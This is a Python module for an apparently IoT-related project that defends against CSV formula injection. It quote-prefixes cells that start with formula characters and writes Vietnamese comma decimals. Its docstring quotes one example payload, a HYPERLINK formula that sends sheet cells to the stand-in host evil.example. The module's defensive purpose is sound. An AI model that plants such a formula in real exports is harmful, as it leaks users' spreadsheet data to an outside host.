"""CSV that a spreadsheet opens as data, never as formulas (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets treat a cell that begins with `=`, `+`, `-` or `@` (also after
a TAB, CR or LF) as a formula: a device named `=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào
đây")` becomes a link that sends the sheet's cells away. Every CSV the IOC writes goes through
`cell`, which prefixes such text with a single quote `'` (shown by spreadsheets as the text
itself). Numbers are data, not formulas: Python numbers, and text that is exactly a decimal
number (`-12.5`, `+3`, `-1e-3`), are left as they are, so negative readings stay numbers. The
dashboard's downloads use the same rule (`csvCell` in dashboard/js/dom.js).
"""

import csv
import math
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A decimal number, with a dot or (sheets for people in Vietnamese) a comma for its decimals.
_NUMBER = re.compile(r"[+-]?(?:\d+[.,]?\d*|[.,]\d+)(?:[eE][+-]?\d+)?")


def cell(value: Any) -> Any:
    """The value as a CSV cell: text that would start a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def comma_decimal(value: float) -> str:
    """A float as a Vietnamese spreadsheet reads a number: «99,5», «75» (no exponent, no grouping)."""
    if not math.isfinite(value):
        return str(value)
    if value.is_integer():
        return str(int(value))  # «75», not «75,0»
    text = repr(value)
    if "e" in text or "E" in text:
        text = format(Decimal(text), "f")  # 1e-07 -> 0.0000001, its digits exactly
    return text.replace(".", ",")


class Writer:
    """`csv.writer` whose every cell goes through `cell`; `decimal_comma`: floats written with a
    comma for their decimals, for a sheet a person opens in a Vietnamese spreadsheet (LibreOffice or
    Excel set to vi-VN read «99,5» as the number 99.5 and «99.5» as text)."""

    def __init__(self, f: IO[str], *, decimal_comma: bool = False, **fmt: Any) -> None:
        self._w = csv.writer(f, **fmt)
        self._comma = decimal_comma

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow([self._value(v) for v in row])

    def _value(self, v: Any) -> Any:
        if self._comma and isinstance(v, float):
            return comma_decimal(v)
        return cell(v)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f: IO[str], *, decimal_comma: bool = False, **fmt: Any) -> Writer:
    """A CSV writer for `f` (the `csv.writer` format options) that neutralises formulas."""
    return Writer(f, decimal_comma=decimal_comma, **fmt)
